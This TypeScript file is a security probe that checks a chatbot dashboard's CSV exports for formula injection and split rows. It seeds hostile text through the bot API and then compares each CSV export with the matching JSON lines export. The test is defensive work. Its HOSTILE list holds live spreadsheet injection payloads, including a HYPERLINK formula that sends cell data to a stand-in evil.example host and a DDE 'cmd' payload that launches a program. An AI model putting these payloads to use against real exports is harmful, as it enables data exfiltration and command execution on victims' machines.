import { formulaIn, readAsSpreadsheet } from '../spreadsheet-csv.ts';
import { botPost, call, DASHBOARD_FETCH, probe } from './probe-calls.ts';
import type { ScanTarget } from './scan-target.ts';
import type { StepResult } from './step-result.ts';

/** Texts a visitor (or the chatbot) may send, each starting a formula at the start, after a line break or after a separator. */
const HOSTILE = {
  lineBreak: 'Where is my order?\r\n=HYPERLINK("https://evil.example/?"&A1,"Click")',
  unixLineBreak: 'Second line below\n+SUM(1;2)',
  carriageReturn: 'A lone carriage return\r@SUM(A1)',
  atSign: '@SUM(A1:A9)',
  minus: '-2+3+cmd|\' /C calc\'!A0',
  fullWidth: '\uFF1D1+2',
  afterSemicolon: 'fine;=1+2',
  afterComma: 'fine, =1+2',
  tab: '\t=1+2',
};

/**
 * CSV exports (issue 52): a line break in a visitor's text must not split a row, and no cell, nor a part of one
 * after a separator, may start a formula (OWASP's CSV injection guidance), in every export. Each export is read
 * with Papa Parse, a parser independent of the writer, as a spreadsheet reads it, and compared with the JSON lines
 * export of the same list.
 */
export async function probeCsvExports(target: ScanTarget): Promise<StepResult> {
  const started = Date.now();
  const tried: string[] = [];
  const findings: string[] = [];
  const marker = `csv-probe-${Date.now()}`;
  const texts = Object.values(HOSTILE);
  for (const [index, text] of texts.entries()) {
    const exchange = await botPost(target, '/api/bot/messages', { session_id: `${marker}-${index}`, user_message: `${text} ${marker}`, api_response: `<p>${text}</p>` });
    await botPost(target, '/api/bot/feedback', { history_id: exchange.id, rating: 'down', user_feedback: text, reason: [text] });
  }
  const helpRequest = await botPost(target, '/api/bot/help-requests', { session_id: `${marker}-0`, name: '=Eve Probe', email: 'csv-probe@example.com', message: texts.join('\n') });
  // The audit log's label of a resolved help request is "Name: message".
  await call(target, 'POST', `/api/help-requests/${String(helpRequest.id)}/resolve`);
  tried.push(`sent ${texts.length} exchanges, ratings and a help request through the bot API holding ${Object.keys(HOSTILE).join(', ')}; resolved the help request (its audit entry quotes it)`);

  // The audit log under one action: each export adds an entry of its own, so the whole log grows between two exports.
  for (const [list, filter] of [['history', ''], ['feedback', ''], ['help-requests', ''], ['audit-log', '&action=help_request_resolved']] as const) {
    const csv = await call(target, 'GET', `/api/export/${list}?format=csv${filter}`, { headers: DASHBOARD_FETCH });
    const jsonl = await call(target, 'GET', `/api/export/${list}?format=jsonl${filter}`, { headers: DASHBOARD_FETCH });
    if (csv.status !== 200 || jsonl.status !== 200) {
      findings.push(`GET /api/export/${list} answered ${csv.status} (CSV) and ${jsonl.status} (JSON lines): the probe could not read it`);
      continue;
    }
    const [header, ...rows] = readAsSpreadsheet(csv.text);
    const expectedRows = jsonl.text.split('\n').filter((line) => line.trim() !== '').length;
    const formulas = rows.flatMap((row) => row.map(formulaIn).filter((cell): cell is string => cell !== undefined));
    const ragged = rows.filter((row) => row.length !== header?.length).length;
    tried.push(`${list}: ${rows.length} CSV rows (${expectedRows} JSON lines), ${formulas.length} cell(s) starting a formula, ${ragged} row(s) of another width than the header`);
    if (rows.length !== expectedRows) findings.push(`${list}: the CSV has ${rows.length} rows for ${expectedRows} records: a line break split a row`);
    if (ragged > 0) findings.push(`${list}: ${ragged} row(s) do not have the header's ${header?.length ?? 0} cells`);
    for (const cell of formulas.slice(0, 5)) findings.push(`${list}: a cell starts a formula: ${JSON.stringify(cell.slice(0, 80))}`);
    const seeded = { history: marker, feedback: marker, 'help-requests': 'csv-probe@example.com', 'audit-log': 'Eve Probe' }[list] ?? marker;
    if (!csv.text.includes(seeded)) findings.push(`${list}: the probe's rows are missing from the export`);
  }
  return probe('probe: CSV exports (row splits, formulas)', started, tried, findings);
}
